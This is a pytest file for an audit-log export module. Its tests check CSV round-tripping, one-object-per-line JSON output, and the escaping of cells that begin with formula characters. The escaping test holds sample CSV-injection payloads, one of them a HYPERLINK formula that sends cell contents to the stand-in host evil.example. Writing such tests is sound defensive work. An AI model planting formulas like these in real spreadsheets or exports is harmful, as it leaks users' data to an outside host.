import csv
import io
import json

import pytest

from tests.contracts.audit_trail import STUDY, line
from triage_agent.domain.audit import AuditEntry, Deed
from triage_agent.domain.audit_rows import CSV_COLUMNS, csv_header, csv_line, json_line

ENTRY = AuditEntry(
    number=7,
    line=line(
        who="ada",
        deed=Deed.VERDICT,
        StudyInstanceUID=STUDY,
        detail='said "no", then\nwent',
        address="10.0.0.1",
    ),
)
VALUES = ["2026-01-01T12:00:00.000000+00:00", "ada", "verdict given", STUDY]


def read_csv(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_spreadsheet_reads_back_what_was_written():
    assert read_csv(csv_header() + csv_line(ENTRY)) == [
        list(CSV_COLUMNS),
        ["7", *VALUES, 'said "no", then\nwent', "10.0.0.1"],
    ]


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"here")',
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
    ],
)
@pytest.mark.parametrize("column", ["who", "detail", "address"])
def test_nothing_is_a_formula_to_a_spreadsheet(column, formula):
    ((*cells,),) = read_csv(csv_line(AuditEntry(number=1, line=line(**{column: formula}))))
    cell = dict(zip(CSV_COLUMNS, cells, strict=True))[column]
    assert cell == "'" + formula


def test_json_is_an_object_a_line():
    text = json_line(ENTRY)
    assert text.endswith("\n")
    assert text.count("\n") == 1
    values = [7, *VALUES, 'said "no", then\nwent', "10.0.0.1"]
    assert json.loads(text) == dict(zip(CSV_COLUMNS, values, strict=True))
